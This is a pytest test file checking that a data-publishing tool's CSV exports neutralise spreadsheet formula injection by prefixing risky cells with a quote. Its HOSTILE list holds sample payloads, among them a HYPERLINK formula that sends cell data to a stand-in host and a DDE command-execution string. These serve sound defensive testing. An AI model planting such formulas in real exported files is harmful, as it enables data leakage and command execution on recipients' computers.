"""A value from a source never becomes a spreadsheet formula in the outbox's CSV files (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from publishing_sample import NIGHT, TALANG_BANJAR, finding, insert, insert_figures, sample_figures

from jaring.publishing import write_outbox
from jaring.publishing.outbox import findings_csv
from jaring.warehouse import db

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\tTAB", "\rCR"]


def rows_of(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_cell_that_a_spreadsheet_would_run_is_prefixed_with_a_quote(text):
    row = finding("INVALID_SOURCE_RECORD", "k", kel=TALANG_BANJAR, serial=1, nama=text, source="rt",
                  source_ref=f"rt:2026-10/{text}.csv#file")
    written = rows_of(findings_csv([row]))[0]
    assert (written["nama"], written["source_ref"]) == ("'" + text, f"rt:2026-10/{text}.csv#file")


def test_numbers_and_plain_text_are_written_as_they_are():
    row = finding("PAYMENT_AMOUNT_MISMATCH", "k", kel=TALANG_BANJAR, serial=1, nama="SITI AMINAH",
                  details={"selisih": -16800}) | {"no_rt": -5, "period": "2026-10"}
    written = rows_of(findings_csv([row]))[0]
    assert (written["nama"], written["no_rt"], written["period"]) == ("SITI AMINAH", "-5", "2026-10")
    assert written["details"] == '{"selisih":-16800}'


def test_findings_and_resolved_csv_of_the_outbox_are_neutralised_and_identical_on_rerun(warehouse, tmp_path):
    bad = finding("INVALID_SOURCE_RECORD", "k1", kel=TALANG_BANJAR, serial=1, nama=HOSTILE[0], source="rt",
                  source_ref="rt:2026-10/x.csv#IURAN!5")
    gone = finding("INVALID_SOURCE_RECORD", "k2", kel=TALANG_BANJAR, serial=2, nama="@" + "x", source="rt",
                   source_ref="rt:2026-10/x.csv#IURAN!6", status="PERSISTING")
    insert(warehouse, NIGHT, [bad])
    insert(warehouse, NIGHT, [gone], "recon.resolved")
    insert_figures(warehouse, NIGHT, sample_figures())
    with db.connect(warehouse) as conn:
        folder = write_outbox(NIGHT, conn, tmp_path)
        first = (folder / "findings.csv").read_bytes()
        write_outbox(NIGHT, conn, tmp_path)
    assert rows_of(first)[0]["nama"] == "'" + HOSTILE[0]
    assert rows_of((folder / "resolved.csv").read_bytes())[0]["nama"] == "'@x"
    assert (folder / "findings.csv").read_bytes() == first


def test_each_kind_of_value_is_written_in_its_row_and_only_a_row_with_a_carriage_return_is_quoted_whole():
    from datetime import date
    from decimal import Decimal

    plain = finding("PAYMENT_AMOUNT_MISMATCH", "k1", kel=TALANG_BANJAR, serial=1, nama="SITI AMINAH",
                    details={"b": 2, "a": "é"}) | {"first_seen": date(2026, 11, 20), "no_rt": 5,
                                                  "no_rw": Decimal("7"), "kpj": None, "period": "=2026"}
    with_cr = finding("INVALID_SOURCE_RECORD", "k2", kel=TALANG_BANJAR, serial=2, nama="A\rB", details={})
    data = findings_csv([plain, with_cr, plain])
    first, second, third = rows_of(data)
    assert first == third
    assert (first["first_seen"], first["no_rt"], first["no_rw"], first["kpj"], first["period"]) == (
        "2026-11-20", "5", "7", "", "'=2026")
    assert first["details"] == '{"a":"é","b":2}' and first["nama"] == "SITI AMINAH"
    assert second["nama"] == "A\rB" and second["details"] == "{}"
    lines = data.decode("utf-8").split("\n")
    assert not lines[1].startswith('"') and lines[2].startswith('"INVALID_SOURCE_RECORD","')
    assert not lines[3].startswith('"')
